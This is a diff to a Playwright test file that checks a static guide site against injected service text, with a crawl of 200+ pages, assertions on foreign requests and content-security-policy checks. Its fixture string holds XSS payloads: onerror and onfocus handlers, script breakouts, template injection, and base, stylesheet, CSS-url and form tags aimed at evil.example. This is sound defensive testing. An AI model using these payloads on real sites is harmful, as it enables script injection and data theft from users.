@@ -1,6 +1,9 @@
 import { expect, test as base } from '@playwright/test';
+import { parsePolicy } from '../../src/security/content-policy.ts';
 import { alarm } from '../fixtures/hostile-text.ts';
 import { builtSite } from '../support/built-site.ts';
+import { crawl } from '../support/crawl.ts';
+import { headersOfSite } from '../support/headers-of-site.ts';
 import { oddBuild, siteFolder } from '../support/site-builds.ts';
 import { serveFolder, type StaticServer } from '../support/static-server.ts';
 
@@ -15,37 +18,39 @@ const test = base.extend<object, { guide: StaticServer }>({
 	],
 });
 
-test('no text of the service runs a script on any page', async ({ guide, page }) => {
-	test.setTimeout(120_000);
+test('on 200 pages and more no text of the service runs, loads, asks or sends anything', async ({
+	guide,
+	browser,
+}) => {
+	test.setTimeout(180_000);
 	const { origin } = new URL(guide.url);
-	const dialogs: string[] = [];
-	const foreignScripts: string[] = [];
-	page.on('dialog', (dialog) => {
-		dialogs.push(dialog.message());
-		void dialog.dismiss();
-	});
-	await page.route('**', async (route) => {
-		const request = route.request();
-		if (new URL(request.url()).origin === origin) return route.continue();
-		if (request.resourceType() !== 'image') foreignScripts.push(request.url());
-		return route.abort();
-	});
-	const ran: string[] = [];
-	for (const { path } of builtSite(oddBuild).pages) {
-		await page.goto(origin + path, { waitUntil: 'load' });
-		await page.evaluate(() => {
-			// What a handler in an attribute would wait for.
-			for (const element of document.querySelectorAll('*')) {
-				element.dispatchEvent(new MouseEvent('mouseover', { bubbles: true }));
-				element.dispatchEvent(new FocusEvent('focus'));
-			}
-		});
-		if (await page.evaluate((name) => name in window, alarm)) ran.push(path);
-	}
+	const paths = builtSite(oddBuild).pages.map(({ path }) => path);
 
-	expect(ran).toEqual([]);
-	expect(dialogs).toEqual([]);
-	expect(foreignScripts).toEqual([]);
+	const seen = await crawl(browser, origin, paths);
+
+	expect(seen.violations).toEqual([]);
+	expect(seen.ran).toEqual([]);
+	expect(seen.dialogs).toEqual([]);
+	expect(seen.left).toEqual([]);
+	expect(seen.errors).toEqual([]);
+	expect(seen.foreign.filter((request) => !request.startsWith('image '))).toEqual([]);
+	expect([...new Set(seen.foreign.map(hostOf))].sort()).toEqual(['cdn.example', 'evil.example']);
+	expect(paths.length).toBeGreaterThanOrEqual(200);
+});
+
+test('each page says in its policy which hosts its images have, and the headers which all of them have', () => {
+	const { pages } = builtSite(oddBuild);
+	const place = pages.find(({ path }) => path.endsWith('/old-harbour-museum-0a1b2c3d/'));
+	const headers = headersOfSite(siteFolder(oddBuild))('/guide/places/');
+
+	expect(parsePolicy(place?.policies[0] ?? '').get('img-src')).toContain('https://cdn.example');
+	expect(parsePolicy(headers['content-security-policy'] ?? '').get('img-src')).toEqual(
+		expect.arrayContaining(["'self'", 'https://cdn.example', 'https://evil.example']),
+	);
+	expect(pages.filter(({ policies }) => policies.length !== 1)).toEqual([]);
+	expect(pages.filter(({ policies }) => policies.some((one) => one.includes('unsafe')))).toEqual(
+		[],
+	);
 });
 
 test('the hostile text is shown as the text that it is', async ({ guide, page }) => {
@@ -70,7 +75,7 @@ test('what a browser reads as structured data is the text of the source, without
 			({ textContent }) => textContent,
 		),
 	);
-	const rest = `<img src=x onerror="window.${alarm}=1"> </title></script><script>window.${alarm}=1</script> " onmouseover="window.${alarm}=1" autofocus onfocus='window.${alarm}=1' x=" {{constructor.constructor('window.${alarm}=1')()}} \${window.${alarm}=1} {window.${alarm}=1}`;
+	const rest = `<img src=x onerror="window.${alarm}=1"> </title></script><script>window.${alarm}=1</script> " onmouseover="window.${alarm}=1" autofocus onfocus='window.${alarm}=1' x=" {{constructor.constructor('window.${alarm}=1')()}} \${window.${alarm}=1} {window.${alarm}=1} <base href="https://evil.example/"><link rel=stylesheet href="https://evil.example/a.css"> </style><style>*{background:url(https://evil.example/b.png)}</style> <iframe srcdoc="&lt;script&gt;parent.${alarm}=1&lt;/script&gt;"></iframe> <form action="https://evil.example/"><button autofocus onfocus=window.${alarm}=1> [31mred]0;title2J BEGIN:VEVENT`;
 
 	expect(texts).toHaveLength(1);
 	expect(JSON.parse(texts[0] ?? '')).toMatchObject({
@@ -99,3 +104,8 @@ test('no script of the pages holds a text of the service, but for structured dat
 
 	expect(wrong.map(({ path }) => path)).toEqual([]);
 });
+
+/** @param request Kind and address, as the crawl notes them. */
+function hostOf(request: string): string {
+	return new URL(request.slice(request.indexOf(' ') + 1)).host;
+}
